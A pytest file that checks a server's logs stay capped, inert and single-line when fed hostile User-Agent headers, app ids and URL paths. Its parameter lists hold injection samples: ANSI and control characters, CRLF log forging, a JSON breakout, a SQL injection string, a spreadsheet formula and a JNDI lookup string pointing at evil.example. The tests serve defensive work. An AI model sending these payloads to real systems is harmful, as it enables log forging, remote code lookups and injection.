"""A35: a stranger's text ends up in logs that people read in terminals. What is kept is capped, inert and one line."""

import json
import unicodedata
from collections.abc import Iterator

import pytest

from tests.engines import NewDatabase
from tests.graph import assert_graph_error
from tests.serving import Served, until
from tests.tenant import Tenant, counted

AGENTS = {
    "ANSI, eight bits": "a\x9b31mred",
    "a next line": "one\x85two",
    "right-to-left override, as UTF-8": "\u202egpj.exe".encode().decode("latin-1"),
    "markup": "<script>alert(1)</script>",
    "a formula": '=HYPERLINK("http://evil.example")',
    "a fake log line": "2026-01-01T00:00:00Z access   200 GET /admin",
    "JSON": '","level":"critical","message":"',
    "format strings": "%s%n{0}{__class__}${jndi:ldap://evil.example/a}",
    "fifteen kilobytes": "x" * 15_000,
    "a tab": "a\tb",
}
REFUSED = {"ANSI": "a\x1b[31mred", "NUL": "a\0b", "bell": "a\x07b", "delete": "a\x7fb"}


@pytest.fixture(scope="module", params=["console", "json"])
def served(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, new_database: NewDatabase
) -> Iterator[Served]:
    """A server process in either format of its log."""
    with Served(tmp_path_factory.mktemp("served") / "data", log_format=request.param, **new_database()) as running:
        yield running


def _inert(text: str) -> bool:
    return all(
        unicodedata.category(each) not in ("Cc", "Cs", "Zl", "Zp") and each not in "\u202a\u202b\u202d\u202e" for each in text
    )


def _lines_are_whole(served: Served) -> None:
    for line in served.log.read_text().splitlines():
        assert _inert(line)
        if line.startswith("{"):
            json.loads(line)
        else:
            assert line[:4].isdecimal()
            assert line[4] == "-"


@pytest.mark.parametrize("agent", AGENTS.values(), ids=AGENTS)
def test_a_hostile_user_agent_is_stored_capped_and_inert(served: Served, agent: str) -> None:
    tenant = Tenant(served.store)
    assert served.wire.token(tenant.credential, [("User-Agent", agent)]).status == 200
    [issued] = [each for each in tenant.log() if each["extra_data"]["kind"] == "token.issued"]
    assert _inert(issued["useragent"])
    assert len(issued["useragent"]) <= 256
    _lines_are_whole(served)


@pytest.mark.parametrize("agent", AGENTS.values(), ids=AGENTS)
def test_a_hostile_user_agent_of_a_refusal_is_stored_capped_and_inert(served: Served, agent: str) -> None:
    tenant = Tenant(served.store, allow=["203.0.113.9"])
    assert_graph_error(served.wire.token(tenant.credential, [("User-Agent", agent)]), 400, 5)
    until(lambda: counted(tenant.log())["address.refused AddressRefused"], "the finding")
    assert _inert(tenant.log()[-1]["useragent"])
    assert len(tenant.log()[-1]["useragent"]) <= 256


@pytest.mark.parametrize("agent", REFUSED.values(), ids=REFUSED)
def test_a_control_character_in_a_header_is_no_http(served: Served, agent: str) -> None:
    reply = served.wire.call("GET", "/healthz", [("User-Agent", agent)])
    assert_graph_error(reply, 400, 100)


@pytest.mark.parametrize("app_id", ["\r\nforged line", "\x1b[2J", "\u202e1", "x" * 5_000, "1' OR '1'='1", "１" * 16])
def test_a_hostile_app_id_is_refused_unread_and_in_no_log(served: Served, app_id: str) -> None:
    tenant = Tenant(served.store)
    assert_graph_error(served.wire.token(f"{app_id}|{tenant.secret}"), 400, 190)
    assert "forged" not in served.log.read_text()
    _lines_are_whole(served)


@pytest.mark.parametrize("path", ["/%1b%5b2J", "/%0d%0aforged", "/" + "x" * 10_000, "/%e2%80%ae", "/a'\"<>`{}|\\^"])
def test_a_hostile_path_is_one_short_line_of_the_log(served: Served, path: str) -> None:
    reply = served.wire.get(path)
    assert_graph_error(reply, 404, 2500)
    until(lambda: reply.header("x-request-id") in served.log.read_text(), "the line of the access log")
    [line] = [each for each in served.log.read_text().splitlines() if reply.header("x-request-id") in each]
    assert len(line) < 600
    _lines_are_whole(served)
